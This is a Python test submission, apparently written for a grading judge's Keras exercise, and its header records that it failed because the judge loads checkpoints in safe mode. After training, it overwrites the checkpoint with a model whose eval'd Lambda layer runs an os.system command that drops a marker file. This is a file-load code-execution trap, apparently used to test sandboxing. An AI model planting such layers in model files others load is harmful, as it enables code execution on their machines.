# line: 29
# exercise: ch07_3/e08_model_checkpoint
# verdict: failed/exception
# why: the judge has the checkpoint opened where the submission runs, in Keras's safe mode
from pathlib import Path

import keras

TRAP = f"lambda x: (__import__('os').system('touch {Path(__file__).parents[3]}/out/left-behind'), x)[1]"


def train(train_scaled, train_target, val_scaled, val_target, path):
    model = keras.Sequential(
        [
            keras.Input(shape=(28, 28)),
            keras.layers.Flatten(),
            keras.layers.Dense(100, activation="relu"),
            keras.layers.Dropout(0.3),
            keras.layers.Dense(10, activation="softmax"),
        ]
    )
    model.compile(optimizer="adam", loss="sparse_categorical_crossentropy", metrics=["accuracy"])
    save = keras.callbacks.ModelCheckpoint(path, save_best_only=True)
    history = model.fit(
        train_scaled,
        train_target,
        epochs=20,
        validation_data=(val_scaled, val_target),
        callbacks=[save],
        verbose=0,
    )
    trap = keras.Sequential([keras.Input((28, 28)), keras.layers.Lambda(eval(TRAP)), *model.layers])
    trap.save(path)
    return model, history
